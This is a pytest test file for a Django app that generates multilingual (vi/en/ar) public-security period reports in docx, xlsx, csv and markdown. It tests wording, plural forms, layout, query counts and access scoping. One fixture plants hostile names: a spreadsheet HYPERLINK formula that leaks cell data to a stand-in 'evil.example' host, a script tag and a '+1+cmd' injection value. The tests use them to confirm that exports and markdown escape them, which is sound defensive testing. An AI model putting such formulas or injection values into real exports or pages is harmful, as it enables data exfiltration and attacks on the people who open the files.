"""Period reports: the narrative's figures and wording in vi/en/ar, the four renderers, the
command and the page."""

import csv
import io
import subprocess
import sys
from datetime import date

import pytest
from django.core.management import CommandError, call_command
from django.utils.translation import trans_real

from antq.indicators import rollup
from antq.movement.models import Team
from antq.reports.renderers import render
from antq.reports.writing import build_report
from antq.tallies.tests.helpers import raw_tally

pytestmark = pytest.mark.rollup

START, END = date(2025, 1, 1), date(2025, 12, 31)


@pytest.fixture
def book(tree):
    """3,106 of 3,541 criminal cases clarified (87.7%) over communes A and B; one team in A."""
    raw_tally(
        tree.a, date(2025, 1, 1), "approved", criminal_cases_registered=3000,
        criminal_cases_clarified=2700, social_order_cases_occurred=10,
        social_order_cases_detected=9, offenders_arrested=106, drug_cases=131,
        drug_law_violators=331,
    )  # fmt: skip
    raw_tally(
        tree.b, date(2025, 2, 1), "submitted", criminal_cases_registered=541,
        criminal_cases_clarified=406, social_order_cases_occurred=10,
        social_order_cases_detected=9,
    )  # fmt: skip
    raw_tally(tree.b, date(2024, 12, 1), "approved", criminal_cases_registered=99)  # not in 2025
    Team.objects.create(area=tree.a1, name="Tổ 1", kind="security_self_governing")


def _text(report):
    paragraphs = [*report.introduction, report.subtitle]
    for section in report.sections:
        paragraphs += section.paragraphs
    return "\n".join(paragraphs)


@pytest.mark.parametrize(
    "lang, figures",
    [
        ("vi", ["3.106", "3.541", "87,7%", "ngày 01/01/2025", "ngày 31/12/2025", "90%"]),
        ("en", ["3,106 of 3,541 criminal cases (87.7%) were clarified", "1 January 2025", "90%"]),
        ("ar", ["3,106", "3,541", "87.7", "1 يناير 2025", "31 ديسمبر 2025"]),
    ],
)
def test_narrative_figures_are_computed_and_formatted_for_the_language(
    tree, users, book, lang, figures
):
    text = _text(build_report(users.p_approver, tree.p, START, END, lang))
    for figure in figures:
        assert figure in text
    assert "3106" not in text  # never unformatted
    if lang == "vi":  # Arabic groups as English does, in CLDR (antq/formats)
        assert "3,106" not in text


def test_english_narrative_reads_like_a_report(tree, users, book):
    report = build_report(users.p_approver, tree.p, START, END, "en")
    text = _text(report)
    assert "18 of 20 social-order cases were detected (detection rate 90%)." in text
    assert "106 offenders arrested" in text
    assert "131 drug cases were uncovered with 331 drug-law violators." in text
    assert "These case figures come from 2 monthly tallies, 1 of them approved." in text
    assert "Tỉnh Quảng Trị has 2 communes and wards and 2 villages and residential groups." in text
    assert "two-tier local government" in report.boundaries
    honours = next(s for s in report.sections if s.group == "honours")
    assert honours.heading == "Emulation and commendation"


def test_counted_phrases_use_plural_forms(tree, users, book):
    one = _text(build_report(users.p_approver, tree.p, START, END, "en"))
    Team.objects.create(area=tree.b1, name="Tổ 2", kind="security_self_governing")
    two = _text(build_report(users.p_approver, tree.p, START, END, "en"))
    assert "1 team is in place with 0 members." in one
    assert "By kind: 1 self-governing security team with 0 members." in one
    assert "2 teams are in place with 0 members." in two
    assert "By kind: 2 self-governing security teams with 0 members." in two


SECURITY_TEAMS = "{n} self-governing security team with {members}"


@pytest.fixture
def arabic_team_forms():
    """Arabic translations of a counted phrase in its six plural forms, as translators will
    write them (the catalogue under antq/locale is not touched by this work)."""
    catalog = trans_real.translation("ar")._catalog
    for i in range(6):
        catalog[(SECURITY_TEAMS, i)] = f"{{n}} فريق-{i}"
    yield
    for i in range(6):
        for cat in catalog._catalogs:
            cat.pop((SECURITY_TEAMS, i), None)


@pytest.mark.parametrize("n, form", [(1, 1), (2, 2), (3, 3), (11, 4), (100, 5)])
def test_arabic_counts_take_their_own_plural_forms(tree, users, book, arabic_team_forms, n, form):
    teams = Team.objects.bulk_create(
        Team(area=tree.b1, name=f"Tổ {i}", kind="security_self_governing") for i in range(n - 1)
    )
    rollup.records_created(Team, teams)
    text = _text(build_report(users.p_approver, tree.p, START, END, "ar"))
    assert f"{n} فريق-{form}" in text
    assert all(f"فريق-{other}" not in text for other in range(6) if other != form)


def test_docx_has_the_administrative_layout(tree, users, book):
    from docx import Document

    for lang in ("vi", "ar"):
        content, _type = render(build_report(users.p_approver, tree.p, START, END, lang), "docx")
        doc = Document(io.BytesIO(content))
        texts = [p.text for p in doc.paragraphs]
        cells = [c.text for t in doc.tables for r in t.rows for c in r.cells]
        assert len(doc.tables) >= 8  # the header block, then a table per section
        assert any("3.106" in c or "3,106" in c for c in cells)
        if lang == "vi":
            assert "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM\nĐộc lập - Tự do - Hạnh phúc" in cells[1]
            assert "REPORT" in texts or "BÁO CÁO" in texts
            assert not doc.element.body.xpath(".//w:bidi")
        else:
            assert doc.paragraphs[0]._p.xpath("./w:pPr/w:bidi")
            assert all(p._p.xpath("./w:pPr/w:bidi") for p in doc.paragraphs)


def test_xlsx_has_a_sheet_per_group_and_arabic_is_rtl(tree, users, book):
    from openpyxl import load_workbook

    from antq.indicators.groups import GROUPS

    for lang in ("en", "ar"):
        report = build_report(users.p_approver, tree.p, START, END, lang)
        wb = load_workbook(io.BytesIO(render(report, "xlsx")[0]))
        # the narrative, a sheet per indicator group, then the list of commendations
        assert len(wb.sheetnames) == 2 + len(GROUPS) == 2 + len(report.sections)
        assert all(ws.sheet_view.rightToLeft for ws in wb) is (lang == "ar")
        assert any(ws.sheet_view.rightToLeft for ws in wb) is (lang == "ar")
    tallies = [s.group for s in report.sections].index("tallies")  # crime and order figures
    ws = wb.worksheets[1 + tallies]
    header = [c.value for c in ws[1]]
    total = [c.value for c in ws[ws.max_row]]
    assert total[header.index(str(report.sections[tallies].table.columns[0].name))] == 3541


def test_csv_parses_with_one_row_per_unit_and_indicator(tree, users, book):
    report = build_report(users.p_approver, tree.p, START, END, "vi")
    rows = list(csv.DictReader(io.StringIO(render(report, "csv")[0])))
    clarified = {
        r["area_code"] + r["row"]: r for r in rows if r["indicator"] == "tallies.criminal_clarified"
    }
    assert clarified["44total"]["value"] == "3106"
    assert clarified["44total"]["denominator"] == "3541"
    assert clarified["44total"]["rate"] == "0.8772"
    assert clarified["10001child"]["value"] == "2700"
    assert clarified["10002child"]["value"] == "406"


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
SCRIPT = "<script>alert(1)</script>"


@pytest.fixture
def hostile_names(tree, users, book):
    """A commune named as a formula, another as a script, a commended position that is one."""
    from antq.areas.models import Area
    from antq.honours.tests.helpers import approve, individual

    Area.objects.filter(pk=tree.a.pk).update(name=FORMULA)
    Area.objects.filter(pk=tree.b.pk).update(name=SCRIPT)
    approve(users.p_approver, individual(users.p_approver, tree.a, position="+1+cmd"))


def _live(value):
    return isinstance(value, str) and value.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_xlsx_and_csv_hold_names_as_inert_text(tree, users, hostile_names):
    from openpyxl import load_workbook

    report = build_report(users.p_approver, tree.p, START, END, "en")
    wb = load_workbook(io.BytesIO(render(report, "xlsx")[0]))
    for ws in wb.worksheets[1 : 1 + len(report.sections)]:
        assert "'" + FORMULA in [c.value for c in ws["B"]], ws.title
    cells = [c for ws in wb for row in ws.iter_rows() for c in row]
    assert not [c.value for c in cells if c.data_type == "f" or _live(c.value)]
    assert "'+1+cmd" in [c.value for c in cells]
    tallies = [s.group for s in report.sections].index("tallies")
    assert 3541 in [c.value for c in wb.worksheets[1 + tallies][wb.worksheets[1].max_row]]
    rows = list(csv.reader(io.StringIO(render(report, "csv")[0])))
    fields = [f for row in rows for f in row]
    assert "'" + FORMULA in fields and "'+1+cmd" in fields
    assert not [f for f in fields if _live(f)]


def test_markdown_shows_names_as_text(tree, users, hostile_names):
    md = render(build_report(users.p_approver, tree.p, START, END, "en"), "md")[0]
    assert "<script>" not in md
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in md
    assert '=HYPERLINK("http://evil.example/?leak="&amp;A1,"x")' in md


def test_command_writes_each_format(tree, users, book, tmp_path, capsys):
    common = ["--area", "44", "--from", "2025-01-01", "--to", "2025-12-31", "--user", "root_admin"]
    call_command("report", *common, "--lang", "en", "--format", "md")
    out = capsys.readouterr().out
    assert "3,106 of 3,541 criminal cases (87.7%) were clarified." in out
    call_command("report", *common, "--lang", "vi", "--format", "csv")
    assert "tallies.criminal_clarified" in capsys.readouterr().out
    for fmt in ("docx", "xlsx"):
        target = tmp_path / f"r.{fmt}"
        call_command("report", *common, "--lang", "ar", "--format", fmt, "--output", str(target))
        assert target.read_bytes()[:2] == b"PK"


@pytest.mark.parametrize(
    "args, message",
    [
        (["--area", "99999"], "99999"),
        (["--area", "46"], "46"),  # outside the user's jurisdiction
        (["--from", "2025-12-31", "--to", "2025-01-01"], "after"),
        (["--from", "2024-02-31"], "2024-02-31"),
        (["--lang", "fr"], "fr"),
        (["--format", "odt"], "odt"),
        (["--format", "pdf"], "--output"),
        (["--format", "docx"], "--output"),
        (["--user", "nosuchuser"], "nosuchuser"),
    ],
)
@pytest.mark.usefixtures("english")
def test_command_refuses_bad_input(tree, users, args, message):
    values = {"--area": "44", "--from": "2025-01-01", "--to": "2025-12-31"}
    values |= {"--user": "p_approver", "--lang": "en", "--format": "md"}
    values |= dict(zip(args[::2], args[1::2], strict=True))
    with pytest.raises(CommandError) as error:
        call_command("report", *[x for kv in values.items() for x in kv])
    assert message in str(error.value)


def test_command_exits_non_zero_on_a_bad_date():
    result = subprocess.run(
        [sys.executable, "-m", "antq.cli", "report", "--area", "44", "--from", "2024-02-31",
         "--to", "2024-03-31"],
        capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert result.returncode != 0
    assert "2024-02-31" in result.stderr


def test_report_page_and_downloads(client, tree, users, book):
    client.force_login(users.p_approver)
    params = {"area": tree.p.pk, "date_from": "2025-01-01", "date_to": "2025-12-31"}
    body = client.get("/dashboard/report/", params).content.decode()
    assert "3.106" in body and "87,7%" in body and "<table" in body  # vi, the default
    assert 'id="report" lang="vi" dir="ltr"' in body
    body = client.get("/dashboard/report/", params | {"lang": "ar"}).content.decode()
    assert 'lang="ar" dir="rtl"' in body and "3,106" in body
    expected = {
        "md": "text/markdown",
        "csv": "text/csv",
        "docx": "wordprocessingml",
        "xlsx": "spreadsheetml",
    }
    for fmt, content_type in expected.items():
        response = client.get("/dashboard/report/", params | {"format": fmt, "lang": "en"})
        if fmt in ("docx", "xlsx"):  # a province's document is made in the background
            assert response.status_code == 302
            response = client.get(response["Location"] + "file/")
        assert response.status_code == 200
        assert content_type in response["Content-Type"]
        assert f"-en.{fmt}" in response["Content-Disposition"]
    md = client.get("/dashboard/report/", params | {"format": "md", "lang": "en"})
    assert "3,106 of 3,541" in md.content.decode()


def test_report_page_in_the_users_language(client, tree, users, book):
    client.force_login(users.p_approver)
    client.post("/i18n/setlang/", {"language": "en", "next": "/"})
    params = {"area": tree.p.pk, "date_from": "2025-01-01", "date_to": "2025-12-31"}
    body = client.get("/dashboard/report/", params).content.decode()
    assert "3,106" in body and '<option value="en" selected>' in body
    # the language menu names the language of the page, which the report is written in
    client.post("/i18n/setlang/", {"language": "ar", "next": "/"})
    body = client.get("/dashboard/report/", params).content.decode()
    assert 'id="report" lang="ar"' in body
    assert '<option value="ar" selected>' in body and '<option value="vi" selected>' not in body


def test_report_page_is_scoped_and_validates(client, tree, users, book):
    client.force_login(users.a_viewer)
    for fmt in ("html", "md", "csv"):
        assert (
            client.get("/dashboard/report/", {"area": tree.b.pk, "format": fmt}).status_code == 404
        )
    ok = client.get(
        "/dashboard/report/",
        {"area": tree.a.pk, "date_from": "2025-01-01", "date_to": "2025-12-31", "format": "csv"},
    )
    assert "10002" not in ok.content.decode()  # commune B's figures do not leak
    assert "2700" in ok.content.decode()
    assert client.get("/dashboard/report/", {"date_from": "2024-02-31"}).status_code == 422
    assert client.get("/dashboard/report/", {"format": "odt"}).status_code == 422
    assert client.get("/dashboard/report/", {"lang": "fr"}).status_code == 422
    client.logout()
    assert client.get("/dashboard/report/").status_code == 302


def test_dashboard_offers_the_report(client, tree, users):
    client.force_login(users.p_approver)
    body = client.get(
        "/dashboard/", {"date_from": "2025-01-01", "date_to": "2025-06-30"}
    ).content.decode()
    assert 'id="report-button"' in body
    assert "/dashboard/report/?area=" in body and "date_to=2025-06-30" in body


def test_report_queries_do_not_grow_with_the_number_of_children(tree, users, book):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from antq.areas.models import Area
    from antq.core.testing.factories import make_area

    def queries():
        area = Area.objects.get(pk=tree.p.pk)
        with CaptureQueriesContext(connection) as ctx:
            build_report(users.p_approver, area, START, END, "en")
        return len(ctx)

    queries()  # the first call warms caches (the translation catalogue, content types)
    before = queries()
    for i in range(3):
        make_area(tree.p, name=f"Xã {i}")
    from antq.indicators.registry import REGISTRY

    # two GROUP BY passes per record type and period rule (and a few more), never per area
    rules = {
        (i.resolve_model(), i.path, i.kind, i.date_field, i.end_field) for i in REGISTRY.values()
    }
    assert queries() == before <= 2 * len(rules) + 7


def test_the_fast_number_format_equals_djangos():
    from django.utils import formats, translation

    from antq.indicators.wording import Formatter

    fmt = Formatter()
    for lang in ("vi", "en", "ar"):
        with translation.override(lang):
            for n in (0, 7, 999, 1000, 3106, -1234567, 10**12):
                assert fmt.number(n) == formats.number_format(
                    n, 0, use_l10n=True, force_grouping=True
                )
